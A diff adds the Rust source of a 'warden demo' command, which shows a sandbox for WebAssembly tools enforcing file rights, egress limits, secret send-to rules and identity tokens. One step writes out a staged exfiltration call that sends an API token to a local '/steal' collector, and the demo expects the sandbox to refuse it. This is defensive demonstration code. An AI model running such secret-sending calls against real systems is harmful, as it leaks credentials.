@@ -1,0 +1,297 @@
+//! `warden demo`: the bundled example tools on a scratch workspace, and a
+//! loopback API for the secrets, egress and identity steps.
+
+mod api;
+
+use crate::Failure;
+use anyhow::Context as _;
+use std::path::{Path, PathBuf};
+use std::sync::{Arc, OnceLock};
+use warden::audit::{Event, FileSink, Record};
+use warden::{Grant, Manifest, Rights, RuntimeBuilder};
+
+mod guests {
+    include!(concat!(env!("OUT_DIR"), "/guests.rs"));
+}
+
+const MANIFEST: &str = include_str!("../../../../../examples/manifest.toml");
+const GRANT: &str = include_str!("../../../../../examples/grants/edit-docs.toml");
+const TOOLS: [(&str, &[u8]); 6] = [
+    ("read-files", guests::READ_FILES_WASM),
+    ("search-text", guests::SEARCH_TEXT_WASM),
+    ("write-file", guests::WRITE_FILE_WASM),
+    ("remove-path", guests::REMOVE_PATH_WASM),
+    ("http-get", guests::HTTP_GET_WASM),
+    ("call-api", guests::CALL_API_WASM),
+];
+
+/// Manifest entries for the tools that reach the demo's local API, whose
+/// ports are only known at run time.
+fn egress_manifest(api: u16, collector: u16) -> String {
+    format!(
+        r#"
+# Added by `warden demo`: egress to the local API and collector it started.
+[tools.http-get]
+component = "tools/http-get.wasm"
+
+[[tools.http-get.http]]
+scheme = "http"
+host = "127.0.0.1"
+port = {api}
+
+[[tools.http-get.http]]
+scheme = "http"
+host = "127.0.0.1"
+port = {collector}
+
+[[tools.http-get.secrets]]
+name = "api-token"
+source = "file:secrets/api-token"
+send-to = ["http://127.0.0.1:{api}"]
+
+[tools.call-api]
+component = "tools/call-api.wasm"
+token-audiences = ["http://127.0.0.1:{api}"]
+
+[[tools.call-api.http]]
+scheme = "http"
+host = "127.0.0.1"
+port = {api}
+"#
+    )
+}
+
+fn setup(dir: &Path, api: u16, collector: u16) -> anyhow::Result<()> {
+    let files = [
+        (
+            "README.md",
+            "# demo project\n\nA tiny workspace for `warden demo`.\n",
+        ),
+        (
+            "src/main.rs",
+            "fn main() {\n    // TODO: greet the user by name\n    println!(\"hello\");\n}\n",
+        ),
+        ("docs/notes.md", "Release notes\n\nTODO: write them\n"),
+        ("secrets.env", "API_TOKEN=do-not-delete\n"),
+    ];
+    for (path, text) in files {
+        let path = dir.join("workspace").join(path);
+        std::fs::create_dir_all(path.parent().unwrap())?;
+        std::fs::write(path, text)?;
+    }
+    std::fs::create_dir_all(dir.join("tools"))?;
+    for (name, bytes) in TOOLS {
+        std::fs::write(dir.join("tools").join(format!("{name}.wasm")), bytes)?;
+    }
+    std::fs::create_dir_all(dir.join("secrets"))?;
+    std::fs::write(dir.join("secrets/api-token"), api::API_TOKEN)?;
+    std::fs::write(
+        dir.join("manifest.toml"),
+        format!("{MANIFEST}{}", egress_manifest(api, collector)),
+    )?;
+    std::fs::create_dir_all(dir.join("grants"))?;
+    std::fs::write(dir.join("grants/edit-docs.toml"), GRANT)?;
+    Ok(())
+}
+
+struct Step {
+    title: &'static str,
+    /// How the same call looks on the command line.
+    cli: String,
+    tool: &'static str,
+    grant: Grant,
+    input: String,
+}
+
+pub async fn run(builder: RuntimeBuilder, dir: Option<PathBuf>) -> Result<(), Failure> {
+    let scratch;
+    let dir = match dir {
+        Some(d) => d,
+        None => {
+            scratch = tempfile::tempdir().map_err(|e| crate::usage(e.into()))?;
+            scratch.path().to_owned()
+        }
+    };
+    let fail = |e: anyhow::Error| crate::usage(e);
+    let cell = Arc::new(OnceLock::new());
+    let log = Arc::new(api::Log::default());
+    let (api_port, collector_port) = api::start(cell.clone(), log.clone())
+        .await
+        .context("cannot start the demo API on 127.0.0.1")
+        .map_err(fail)?;
+    setup(&dir, api_port, collector_port)
+        .with_context(|| format!("cannot lay out the demo in {}", dir.display()))
+        .map_err(fail)?;
+    let manifest = Manifest::load(dir.join("manifest.toml")).map_err(warden::Error::from)?;
+    let audit_path = dir.join("audit.jsonl");
+    let _ = std::fs::remove_file(&audit_path);
+    let sink = FileSink::open(&audit_path).map_err(|e| fail(e.into()))?;
+    let runtime = builder.manifest(manifest).audit(Arc::new(sink)).build()?;
+    let _ = cell.set(runtime.clone());
+    let ws = dir.join("workspace");
+    let api = format!("http://127.0.0.1:{api_port}");
+    let collector = format!("http://127.0.0.1:{collector_port}");
+
+    println!("Warden demo in {}", dir.display());
+    println!(
+        "manifest ceilings: read-files, search-text: read; write-file: read,write; remove-path: read,write,delete;\n\
+         http-get: egress to the local API ({api}) and collector ({collector}), secret api-token (send-to the API only);\n\
+         call-api: egress to the API, identity tokens for audience {api}\n"
+    );
+
+    let fs_step = |title, tool, rights: Rights, input: &str| Step {
+        title,
+        cli: format!("warden run {tool} --grant fs:workspace=workspace:{rights} --input '{input}'"),
+        tool,
+        grant: Grant::new("demo").fs("workspace", &ws, rights),
+        input: input.to_owned(),
+    };
+    let notes = r#"{"path":"docs/notes.md","content":"Release notes\n\n- sandboxed tools\n"}"#;
+    let steps = [
+        fs_step(
+            "an allowed read: read-files granted workspace:read",
+            "read-files",
+            Rights::READ,
+            r#"{"paths":["README.md","src"]}"#,
+        ),
+        fs_step(
+            "a denied write: write-file granted only workspace:read",
+            "write-file",
+            Rights::READ,
+            notes,
+        ),
+        fs_step(
+            "a granted write: write-file granted workspace:write",
+            "write-file",
+            Rights::WRITE,
+            notes,
+        ),
+        fs_step(
+            "a denied delete: remove-path granted workspace:read,write (write does not imply delete)",
+            "remove-path",
+            Rights::READ | Rights::WRITE,
+            r#"{"path":"secrets.env"}"#,
+        ),
+        fs_step(
+            "a grant wider than the ceiling: read-files asking for workspace:read,write",
+            "read-files",
+            Rights::READ | Rights::WRITE,
+            r#"{"paths":["README.md"]}"#,
+        ),
+        fs_step(
+            "a search: search-text granted workspace:read",
+            "search-text",
+            Rights::READ,
+            r#"{"pattern":"TODO","globs":["**/*.rs","**/*.md"]}"#,
+        ),
+        Step {
+            title: "a credential used without being revealed: http-get sends secret api-token by reference",
+            cli: format!(
+                "warden run http-get --grant http:{api}/ --grant secret:api-token --input '{{\"url\":\"{api}/secure\",\"secret\":\"api-token\"}}'"
+            ),
+            tool: "http-get",
+            grant: Grant::new("demo")
+                .http(&format!("{api}/"), None)
+                .secret("api-token"),
+            input: format!(r#"{{"url":"{api}/secure","secret":"api-token"}}"#),
+        },
+        Step {
+            title: "an exfiltration attempt: http-get sends api-token to the collector (granted egress, but not in the secret's send-to)",
+            cli: format!(
+                "warden run http-get --grant http:{collector}/ --grant secret:api-token --input '{{\"url\":\"{collector}/steal\",\"secret\":\"api-token\"}}'"
+            ),
+            tool: "http-get",
+            grant: Grant::new("demo")
+                .http(&format!("{collector}/"), None)
+                .secret("api-token"),
+            input: format!(r#"{{"url":"{collector}/steal","secret":"api-token"}}"#),
+        },
+        Step {
+            title: "a workload identity: call-api authenticates with a token minted for this call only",
+            cli: format!(
+                "warden run call-api --grant http:{api}/ --input '{{\"url\":\"{api}/whoami\",\"audience\":\"{api}\"}}'"
+            ),
+            tool: "call-api",
+            grant: Grant::new("demo").http(&format!("{api}/"), None),
+            input: format!(r#"{{"url":"{api}/whoami","audience":"{api}"}}"#),
+        },
+    ];
+    for (i, step) in steps.iter().enumerate() {
+        println!("{}. {}", i + 1, step.title);
+        println!("   $ {}", step.cli);
+        match runtime.invoke(step.tool, &step.grant, &step.input).await {
+            Ok(run) => match run.output {
+                Ok(out) => println!("   ok: {}", shorten(&out, 160)),
+                Err(e) => println!("   tool error: {e}"),
+            },
+            Err(e) => println!("   refused: {e}"),
+        }
+        for line in log.take() {
+            println!("   {line}");
+        }
+        println!();
+    }
+    println!(
+        "secrets.env still exists: {}; docs/notes.md now reads: {:?}; the audit trail mentions the API token: {}\n",
+        ws.join("secrets.env").exists(),
+        std::fs::read_to_string(ws.join("docs/notes.md")).unwrap_or_default(),
+        std::fs::read_to_string(&audit_path)
+            .unwrap_or_default()
+            .contains(api::API_TOKEN),
+    );
+
+    let text = std::fs::read_to_string(&audit_path).map_err(|e| fail(e.into()))?;
+    println!(
+        "audit trail ({}, {} records):",
+        audit_path.display(),
+        text.lines().count()
+    );
+    for line in text.lines() {
+        let r: Record = serde_json::from_str(line).map_err(|e| fail(e.into()))?;
+        println!("   {}", summarize(&r));
+    }
+    Ok(())
+}
+
+fn shorten(s: &str, max: usize) -> String {
+    let s = s.replace('\n', "\\n");
+    match s.char_indices().nth(max) {
+        Some((i, _)) => format!("{}…", &s[..i]),
+        None => s,
+    }
+}
+
+fn summarize(r: &Record) -> String {
+    let event = match r.event {
+        Event::InvocationStart => "start",
+        Event::Decision => "decision",
+        Event::Log => "log",
+        Event::InvocationEnd => "end",
+        Event::SecretIssued => "issued",
+        Event::SecretExpired => "expired",
+        Event::Egress => "egress",
+    };
+    let inv = &r.invocation[r.invocation.len().saturating_sub(8)..];
+    let mut s = format!("{event:<8} {:<12} inv {inv}", r.tool);
+    if let (Some(a), Some(res), Some(d)) = (&r.action, &r.resource, &r.decision) {
+        s.push_str(&format!("  {d:<5} {a} {res}"));
+        if let Some(reason) = &r.reason {
+            s.push_str(&format!("  ({reason})"));
+        }
+    } else if let (Some(cap), Some(res)) = (&r.capability, &r.resource) {
+        s.push_str(&format!("  {cap} {res}"));
+    }
+    if let Some(status) = r.status {
+        s.push_str(&format!(
+            "  status {status}, {} bytes in",
+            r.bytes_in.unwrap_or(0)
+        ));
+    }
+    if let Some(o) = &r.outcome {
+        s.push_str(&format!("  outcome={o}"));
+        if let Some(us) = r.duration_us {
+            s.push_str(&format!(" in {:.1}ms", us as f64 / 1000.0));
+        }
+    }
+    s
+}
